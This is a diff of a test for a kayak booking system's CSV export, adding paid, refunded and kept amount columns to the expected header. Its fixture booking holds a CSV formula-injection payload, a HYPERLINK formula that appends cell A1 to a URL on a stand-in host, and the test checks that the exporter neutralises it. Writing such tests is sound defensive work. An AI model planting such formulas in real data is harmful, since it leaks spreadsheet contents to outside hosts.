@@ -32,7 +32,7 @@ test('a booking is exported by itself, in UTF-8, without anything that a spreads
   expect(text.startsWith('\ufeff')).toBe(true);
   const [head, row, ...others] = linesOf(text);
   expect(head).toBe(
-    'Booking,Status,Full name,Email,Phone number,Date of birth,Booking Date,Time,Items booked,Total (EUR),Language,Created',
+    'Booking,Status,Full name,Email,Phone number,Date of birth,Booking Date,Time,Items booked,Total (EUR),Language,Created,Paid (EUR),Refunded (EUR),Kept (EUR)',
   );
   expect(row).toContain(
     `WATER-${hostile.id},Pending,"'=HYPERLINK(""https://example.com?""&A1,""Żółć; click"")",hostile@example.org,'+39 333 1000001,1990-05-20,2027-06-20,10:00 - 11:00,1 × Single kayak (1 h),14.00,EN,`,
